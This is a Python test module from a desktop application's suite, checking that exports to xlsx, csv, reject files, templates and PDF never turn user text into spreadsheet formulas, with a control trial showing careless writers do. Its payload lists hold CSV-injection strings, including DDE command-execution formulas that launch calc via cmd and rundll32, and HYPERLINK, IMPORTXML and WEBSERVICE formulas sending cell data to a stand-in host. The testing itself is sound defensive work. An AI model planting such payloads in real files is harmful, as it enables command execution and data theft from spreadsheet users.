"""T26: texts that a spreadsheet would take for formulas, through everything that writes files for others."""

import csv
import io
import random
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import xlsxwriter

from laborqa_desktop.exchange.sheets import read_book
from laborqa_desktop.models.client import Site
from laborqa_desktop.records import TYPES, record_type
from laborqa_desktop.store.unit import Store
from laborqa_desktop.text import english
from laborqa_desktop.usecases.importing import Choice, Imports
from laborqa_desktop.usecases.listing import Query
from laborqa_desktop.usecases.listing_files import ListFiles
from tests.factory import ACT
from tests.faults.trial import Outcome, Trial
from tests.faults.trial_imports import library

STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t=", "\r=", "\n=", " =", "\u3000=", "\xa0=",
          "'=", "''=", "\x1f=", "\x1c=", "\ufeff=", "\u200b=", "\u202e=", "=-+", "{=", '"=', ";=", ",=", "\t", "|")
BODIES = ("1+1", "SUM(1)*A1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.invalid/?x="&A1,"OK")',
          'DDE("a";"b";"c")', 'IMPORTXML(CONCAT("http://evil.invalid"),"//a")', 'WEBSERVICE("http://evil.invalid")',
          "1E5", "2026-1-2", "x",
          "rundll32|'URL.dll,OpenURL calc.exe'!A", "'file:///C:/x'#$a.A1", "A1:A9", '""', "é张", "00012",
          "TRUE", "#REF!")
PLAIN = ("1E5", "1-2", "3/4", "2026-1-2", "00012", "1e-7", "0x1F", "TRUE", "#N/A", "http://evil.invalid",
         "mailto:a@b.invalid", "internal:Sheet1!A1", "external:c:\\x.xlsx", "_x003D_1", "&#61;1",
         "12:30", "1,000", "¥5", "\uff15\uff05",
         "1E+17")
FIRST = "=+-@\uff1d\uff0b\uff0d\uff20\t\r\n"
UNSEEN = " '\u3000\xa0\ufeff\u200b\u202e" + "".join(map(chr, (*range(9), 11, 12, *range(14, 32))))


def payloads(count: int, chance: random.Random) -> list[str]:
    """So many texts, those that only look like numbers or links among them."""
    made = [*PLAIN, *(start + body for start in STARTS for body in BODIES)]
    chance.shuffle(made)
    return [made[number % len(made)] for number in range(count)]


def filled(store: Store, texts: list[str]) -> None:
    """Sites that have the texts in every field of words, past the checks of a form."""
    with store.write(ACT) as work:
        for number, text in enumerate(texts):
            work.session.add(Site(code=f"S{number:04d}", name=text, service_type="cleaning", address=text,
                                  phone=text[:40], post_code=text[:20], remarks=text))


def formulas(count: int, seed: int, folder: Path) -> Outcome:
    """Exports, rejects, templates and prints of these texts, reopened."""
    texts = payloads(count, random.Random(seed))
    failures: list[str] = []
    with library(folder / "library") as store:
        filled(store, texts)
        files = ListFiles(store)
        query = Query(columns=tuple(column.key for column in record_type("site").columns), order=(("code", False),))
        for name in ("list.xlsx", "list.csv"):
            files.export("site", query, (), folder / name, english)
        failures += [*_workbook(folder / "list.xlsx", texts), *_csv(folder / "list.csv", texts)]
        failures += [*_rejects(store, folder, texts), *_templates(store, folder), *_print(files, query, folder, texts)]
    return Outcome(count, tuple(failures), {"exporters": 5})


def formula_cells(path: Path) -> Iterator[str]:
    """The cells of a workbook that are formulas or links."""
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or cell.hyperlink:
                    yield f"{path.name}: {cell.coordinate} is a formula or a link: {cell.value!r}"


def plain_cell(value: object) -> str:
    """A cell's text; openpyxl leaves control characters as they are written, _x000D_."""
    return re.sub("_x00([01][0-9A-F])_", lambda found: chr(int(found[1], 16)), str(value))


def _workbook(path: Path, texts: list[str]) -> Iterator[str]:
    yield from formula_cells(path)
    rows = list(openpyxl.load_workbook(path).active.iter_rows())
    place = [cell.value for cell in rows[0]].index("Name")
    formats = {cell.value: rows[1][number].number_format for number, cell in enumerate(rows[0])}
    if formats["Code"] != "@":
        yield "the code column is no text"
    for row, text in zip(rows[1:], texts, strict=True):
        found = row[place].value
        if row[place].data_type != "s" or plain_cell(found) != text:
            yield f"{path.name}: {text!r} became {found!r}"


def _csv(path: Path, texts: list[str]) -> Iterator[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    for row in rows:
        for cell in row:
            if (cell[:1] in FIRST and cell) or (cell.lstrip(UNSEEN)[:1] in tuple(FIRST) and not cell.startswith("'")):
                yield f"{path.name}: {cell!r} would be a formula"
    read = read_book(path).sheets[0].rows
    place = rows[0].index("Name")
    for row, text in zip(read[1:], texts, strict=True):
        if row[place] != text:
            yield f"{path.name}: {text!r} came back as {row[place]!r}"


def _rejects(store: Store, folder: Path, texts: list[str]) -> Iterator[str]:
    source, rejects = folder / "bad.xlsx", folder / "rejects.xlsx"
    book = xlsxwriter.Workbook(source)
    sheet = book.add_worksheet()
    for place, heading in enumerate(("Code", "Name", "Service type", "=1+1", "Remarks")):
        sheet.write_string(0, place, heading)
    for number, text in enumerate(texts, 1):
        for place, cell in enumerate((f"R{number}", text, "no such service", text, text)):
            sheet.write_string(number, place, cell)
    book.close()
    done = Imports(store, "x").run("site", source, choice=Choice.GOOD_ROWS, rejects=rejects)
    if done.counts["rejected"] != len(texts):
        yield f"rejects: {done.counts}"
    yield from formula_cells(rejects)
    for row, text in zip(list(openpyxl.load_workbook(rejects).active.iter_rows())[1:], texts, strict=True):
        if plain_cell(row[1].value) != text:
            yield f"rejects: {text!r} became {row[1].value!r}"


def _templates(store: Store, folder: Path) -> Iterator[str]:
    for key in TYPES:
        if key not in ("report", "company"):
            Imports(store, "x").template(key, folder / f"{key}.xlsx", english)
            yield from formula_cells(folder / f"{key}.xlsx")


def _print(files: ListFiles, query: Query, folder: Path, texts: list[str]) -> Iterator[str]:
    pdf = folder / "list.pdf"
    pdf.write_bytes(files.print_list("site", query, (), english, "en"))
    shown = subprocess.run(["pdftotext", "-raw", str(pdf), "-"], capture_output=True, check=True).stdout.decode()
    plain = "".join(shown.split())
    for text in texts:
        words = "".join("".join(mark for mark in text if mark.isprintable()).split())
        if words not in plain:
            yield f"list.pdf: {text!r} is not there"


def careless(count: int, seed: int, folder: Path) -> Outcome:
    """The same texts written as xlsxwriter and csv write them when nobody takes care."""
    texts = payloads(count, random.Random(seed))
    book = xlsxwriter.Workbook(folder / "list.xlsx")
    sheet = book.add_worksheet()
    for number, text in enumerate(texts):
        sheet.write(number, 0, text)
    book.close()
    out = io.StringIO()
    csv.writer(out).writerows([text] for text in texts)
    (folder / "list.csv").write_text("\ufeffName\r\n" + out.getvalue(), encoding="utf-8", newline="")
    return Outcome(count, (*formula_cells(folder / "list.xlsx"), *_csv_formulas(folder / "list.csv")))


def _csv_formulas(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        for row in csv.reader(file):
            if row and row[0][:1] in FIRST:
                yield f"{row[0]!r} would be a formula"


TARGET = "0 formula cells from data, every text as it was"
TRIALS = (Trial("T26", "formulas in exported texts", TARGET, 200, 200, formulas),
          Trial("T26", "formulas without care", "formulas are found", 200, 200, careless, control=True))
